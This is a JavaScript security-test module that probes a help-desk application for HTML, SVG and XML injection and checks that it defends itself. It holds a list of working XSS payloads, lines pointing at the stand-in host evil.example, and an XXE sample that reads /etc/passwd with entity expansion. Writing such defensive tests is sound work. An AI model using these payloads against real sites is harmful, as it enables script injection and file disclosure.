// HTML, SVG and XML: what somebody wrote must not run in the browser of who reads it, and no XML is taken as an order.
import { goneThrough, sweep, textsOf } from '../lib/sweep.mjs';

const kElements = /^(script|iframe|object|embed|base|meta|link|form|svg|math|style|template|applet|frame)$/i;
const kTag = /<\/?([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)>/gi;
const kAttribute = /([^\s"'=<>/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+))?/g;
const kPayloads = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<a href="javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>', '<iframe srcdoc="<script>alert(1)</script>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<form action=//evil.example><input name=a>', '<style>@import url(//evil.example)</style>', '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">', '<object data="data:text/html,<script>alert(1)</script>">', '<p style="background:url(javascript:alert(1))">x', '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>", '</title><script>alert(1)</script>', '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>', '<img src="x` `<script>alert(1)</script>"` `>',
  '[x](javascript:alert(1))', '![x](x"onerror="alert(1))', '<javascript:alert(1)>', '[x]: javascript:alert(1)', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<details open ontoggle=alert(1)>', '<template><script>alert(1)</script></template>',
];
const kXml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&x;&b;</r>';
const kSvg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`;

/** What of a piece of HTML would run, or call elsewhere by itself: elements, handlers, addresses. */
export function runs(html) {
  for (const [tag, name, rest] of html.matchAll(kTag)) {
    if (kElements.test(name)) return tag;
    for (const [, attribute, value = ''] of rest.matchAll(kAttribute)) {
      if (/^(on|style$|srcdoc$|formaction$)/i.test(attribute)) return tag;
      if (/^(href|src|action|background)$/i.test(attribute) && /^["']?[\s\0-\x1f]*(javascript|data:text|vbscript)/i.test(value)) return tag;
    }
  }
  return /<script|<!--|<!\[/i.test(html) ? html.slice(0, 100) : undefined;
}

/** HTML that the desk made of something must be harmless. */
function look(field, answer) {
  if (!answer.json) return;
  for (const [at, text] of textsOf(answer.json)) {
    const run = /html$/.test(at) && runs(text);
    if (run) field.found(`${at} runs: ${run}`, answer);
  }
}

async function files(field) {
  const { customers, admin, secrets, random } = field;
  const kinds = [['x.svg', 'image/svg+xml', kSvg], ['x.html', 'text/html', kPayloads[0]], ['x.xml', 'text/xml', kXml], ['x.xhtml', 'application/xhtml+xml', kSvg], ['x.pdf', 'application/pdf', kPayloads[0]],
    ['x.js', 'text/javascript', 'alert(1)'], ['<img src=x onerror=alert(1)>.png', 'image/png', kPayloads[1]], ['x.png', 'text/html', kPayloads[0]], ['x.mht', 'multipart/related', kPayloads[0]]];
  for (const [name, type, content] of random.shuffled(kinds).slice(0, 5)) {
    const body = new FormData();
    body.set('file', new Blob([content], { type }), name);
    const sent = await field.ask(customers.a_requester, 'POST', `/portal/tickets/${secrets.a.ticket}/evidence`, { raw: body });
    if (!sent.json?.id) continue;
    for (const client of [admin, customers.a_approver]) {
      const file = await field.ask(client, 'GET', `/evidence/${sent.json.id}/content`);
      if (file.status !== 200) continue;
      field.expect(/^attachment;/.test(file.headers.get('content-disposition') ?? ''), 'a file is shown, not saved', file);
      field.expect(/sandbox/.test(file.headers.get('content-security-policy') ?? ''), 'a file without a sandbox', file);
      field.expect(file.text === content, 'a file is not what was sent', file);
    }
  }
}

async function mails(field) {
  const { customers, admin, random } = field;
  const { email } = customers.a_requester;
  const subject = `Markup ${random.word()}`;
  const html = random.shuffled(kPayloads).join('\n');
  await field.mail(email, [`From: "${random.pick(kPayloads).replace(/[\r\n"\\]/g, '')}" <${email}>`, 'To: <desk@desk.example>', `Subject: ${subject}`, `Message-ID: <${random.word()}@customer.example>`, 'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=e', '', '--e', 'Content-Type: text/html; charset=utf-8', '', html, '--e', 'Content-Type: image/svg+xml; name="x.svg"', 'Content-ID: <x@y>', '', kSvg, '--e--', ''].join('\r\n'));
  const found = (await field.ask(admin, 'GET', '/tickets?sort=-created&limit=20')).json?.items.find((one) => one.subject === subject);
  if (found) look(field, await field.ask(admin, 'GET', `/tickets/${found.id}/entries`));
}

export const markup = {
  name: 'markup',
  async attack(field) {
    const { document, random, admin, customers } = field;
    await sweep(field, 'markup', 40, kPayloads, (answer) => look(field, answer));
    await files(field);
    await mails(field);
    const article = await field.ask(admin, 'POST', '/articles', { body: { title: random.pick(kPayloads), body: random.shuffled(kPayloads).join('\n\n'), language: 'en', visibility: 'public', state: 'published' } });
    look(field, article);
    if (article.json?.id) look(field, await field.ask(customers.a_requester, 'GET', `/portal/articles/${article.json.id}`));
    // No operation takes XML, under any of its names.
    const wanted = document.operations.filter((one) => one.body && goneThrough(one));
    await field.each(random.deal('xml', wanted, 8), async (operation) => {
      const ready = await field.ready(operation);
      if (!ready) return;
      const answer = await field.ask(ready.client, operation.method, ready.path, { raw: kXml, type: random.pick(['application/xml', 'text/xml', 'application/json+xml', 'image/svg+xml', 'application/soap+xml']) });
      field.expect(answer.status === 415, 'takes XML', answer);
      const asJson = await field.ask(ready.client, operation.method, ready.path, { raw: kXml, type: 'application/json' });
      field.expect([400, 401, 403, 404, 409, 422].includes(asJson.status) && !/root:/.test(asJson.text), 'takes XML', asJson);
    });
    for (const at of ['/', '/portal', `/portal#${kPayloads[0]}`.replace(/[<>]/g, encodeURIComponent), '/tickets/x', '/survey/%3Cscript%3E', '/page/%3Cscript%3E']) {
      const page = await field.ask(field.nobody, 'GET', '', { at });
      if (page.media !== 'text/html') continue;
      const policy = page.headers.get('content-security-policy') ?? '';
      field.expect(/default-src 'none'/.test(policy) && !/unsafe-|script-src[^;]*(\*|data:|http:)/.test(policy), `the policy of ${at}: ${policy}`, { ...page, text: '' });
      field.expect(/frame-ancestors 'none'/.test(policy), `${at} may be framed`);
    }
  },
};
